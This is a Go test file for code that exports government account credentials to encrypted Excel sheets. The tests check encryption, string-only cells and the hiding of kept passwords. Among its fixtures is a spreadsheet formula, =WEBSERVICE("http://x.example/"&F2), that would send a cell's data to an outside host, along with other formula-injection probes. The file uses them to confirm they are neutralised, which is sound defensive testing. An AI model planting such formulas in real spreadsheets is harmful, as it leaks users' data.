package credential

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"ukpbjd/internal/secret"
)

func sec(s string) secret.Secret { return secret.New([]byte(s)) }

var phrase = sec("CONTOH-SANDI-BERKAS")

func nip(i int) string { return fmt.Sprintf("19860926201505100%d", i) }

// accounts gives rows as they are issued; passwords are plainly invented.
func accounts() (rows []SheetRow) {
	for i, name := range []string{"I Wayan Contoh, S.T.", `=WEBSERVICE("http://x.example/"&F2)`, "Ni Luh Contoh"} {
		r := SheetRow{Nama: name, NIP: nip(i), NIK: fmt.Sprintf("910101010190000%d", i), Golongan: "III/c", Pangkat: "Penata",
			Jabatan: "Pengelola", HP: "0812", SK: "027/12/2026", SKDate: "5 Januari 2026", Email: fmt.Sprintf("m%d@gov.example", i), UserID: fmt.Sprintf("contoh.%d", i), Password: sec(fmt.Sprintf("Contoh#aman%d", i+2))}
		rows = append(rows, r)
	}
	return rows
}

func plainOrSealed(t testing.TB, passphrase secret.Secret) []byte {
	t.Helper()
	b, err := writeSheet("PKJ-2026-0001", "7KQF3M", accounts(), passphrase)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// cellsOf opens the sheet as a spreadsheet program does, and gives its rows of members.
func cellsOf(t testing.TB, b []byte, passphrase secret.Secret) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b), excelize.Options{Password: passphrase.Reveal()})
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(sheetTab)
	if err != nil || len(rows) < headerRow {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	return rows[headerRow:]
}

func TestSheetOpens(t *testing.T) {
	b := plainOrSealed(t, phrase)
	if !bytes.HasPrefix(b, []byte("\xd0\xcf\x11\xe0")) || bytes.Contains(b, []byte("Contoh")) {
		t.Error("the sheet is not encrypted")
	}
	if _, err := excelize.OpenReader(bytes.NewReader(b), excelize.Options{Password: "frasa lain sekali"}); err == nil {
		t.Error("another passphrase opens it")
	}
	got := cellsOf(t, b, phrase)
	for i, r := range accounts() {
		want := []string{fmt.Sprint(i + 1), r.Nama, r.NIP, r.NIK, "III/c", "Penata", "Pengelola", "0812", r.Email, "027/12/2026", "5 Januari 2026", r.UserID, r.Password.Reveal()}
		if !slices.Equal(got[i], want) {
			t.Errorf("row %d: %d cells, other than were written", i+1, len(got[i]))
		}
	}
}

// Every cell is a string: no formula, no number, whatever a name says.
func TestSheetHoldsStringsOnly(t *testing.T) {
	rows := append(accounts(), SheetRow{Nama: "+1+1\r\nSETUJU\x00\u202e", NIP: "@SUM(A1)", Email: "-2", UserID: "\t=1", Kept: true, Password: sec("never shown")})
	b, err := writeSheet("PKJ-2026-0001", "", rows, secret.Secret{})
	if err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range z.File {
		r, err := p.Open()
		if err != nil {
			t.Fatal(err)
		}
		raw, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasPrefix(p.Name, "xl/worksheets/") {
			if bytes.Contains(raw, []byte("<f>")) || bytes.Contains(raw, []byte("<f ")) || bytes.Count(raw, []byte(`t="s"`)) < 13*4 {
				t.Errorf("%s: a cell is no string", p.Name)
			}
		}
		if bytes.Contains(raw, []byte("never shown")) {
			t.Errorf("%s shows the password of a kept account", p.Name)
		}
	}
	line := cellsOf(t, b, secret.Secret{})[3]
	if line[1] != "+1+1  SETUJU" || line[2] != "@SUM(A1)" || line[11] != "=1" || line[12] != kept {
		t.Errorf("%v", line)
	}
}

func TestSheetAnyContent(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		name := rapid.String().Draw(t, "nama")
		b, err := writeSheet("PKJ-2026-0001", "", []SheetRow{{Nama: name, NIP: nip(0), Email: "a@gov.example", UserID: "u", Password: phrase}}, secret.Secret{})
		if err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if got, err := f.GetCellValue(sheetTab, "B8"); err != nil || got != oneLine(name) {
			t.Fatalf("%q came back as %q, %v", name, got, err)
		}
	})
}

func TestSheetInLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice is not installed; no part of ukpbjd needs it")
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "x.xlsx"), plainOrSealed(t, secret.Secret{}), 0o600); err != nil {
		t.Fatal(err)
	}
	c := exec.Command(soffice, "--headless", "-env:UserInstallation=file://"+dir+"/profile", "--convert-to", "csv", "--outdir", dir, filepath.Join(dir, "x.xlsx"))
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	b, err := os.ReadFile(filepath.Join(dir, "x.csv"))
	if err != nil || !bytes.Contains(b, []byte(nip(1))) {
		t.Errorf("%v", err)
	}
}

func BenchmarkSheet(b *testing.B) {
	for b.Loop() {
		plainOrSealed(b, phrase)
	}
}
